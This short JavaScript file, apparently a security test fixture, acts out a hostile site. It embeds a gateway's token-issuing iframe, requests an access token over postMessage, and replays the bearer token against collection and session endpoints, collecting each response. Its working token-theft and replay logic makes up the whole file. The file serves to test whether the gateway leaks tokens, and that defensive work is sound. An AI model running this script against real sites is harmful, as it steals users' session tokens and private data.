/**
 * What a hostile site does with the frame that hands out access tokens where a collection allows `direct`: it asks, and tries
 * the token everywhere.
 *
 * SPDX-License-Identifier: Apache-2.0
 */
async ({ gateway, collections }) => {
  const frame = document.createElement('iframe');
  const loaded = new Promise((resolve) => { frame.onload = resolve; });
  frame.src = `${gateway}/session/token?site=demo`;
  document.body.append(frame);
  await loaded;
  const channel = new MessageChannel();
  const answer = new Promise((resolve) => {
    channel.port1.onmessage = (event) => resolve(event.data);
    setTimeout(() => resolve({ state: 'silent' }), 5000);
  });
  frame.contentWindow.postMessage({ type: 'cloakroom:token' }, gateway, [channel.port2]);
  const { accessToken, state } = await answer;
  if (!accessToken) return JSON.stringify({ found: [{ what: 'token', got: `refused: ${state}` }] });
  const found = [];
  const paths = collections.flatMap((name) => [`/v1/me/collections/${name}`, `/app/me/collections/${name}`]);
  for (const path of [...paths, '/app/me?site=demo', '/session/token']) {
    try {
      const response = await fetch(gateway + path, { headers: { Authorization: `Bearer ${accessToken}` } });
      found.push({ what: path, got: await response.text() });
    } catch (refusal) {
      found.push({ what: path, got: `refused: ${refusal.name}` });
    }
  }
  return JSON.stringify({ found });
}
